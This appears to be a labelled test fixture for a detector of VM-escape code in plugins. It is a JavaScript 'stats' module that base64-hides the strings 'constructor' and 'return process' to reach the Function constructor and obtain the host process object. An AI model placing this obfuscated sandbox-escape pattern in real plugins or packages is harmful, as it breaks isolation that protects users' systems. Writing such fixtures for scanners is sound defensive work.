// expect: category=vm-escape min=100 context=plugin,package
// why: a conditional picks between two base64 decoders; both decode the constructor climb.
const decode =
  typeof atob === 'function'
    ? atob
    : (s) => Buffer.from(s, 'base64').toString('binary');

const K = 'Y29uc3RydWN0b3I=';
const B = 'cmV0dXJuIHByb2Nlc3M=';

function resolve(obj) {
  return obj[decode(K)][decode(K)];
}

const Fn = resolve({});
const proc = Fn(decode(B))();

module.exports = function stats() {
  return { uptime: proc.uptime(), pid: proc.pid };
};
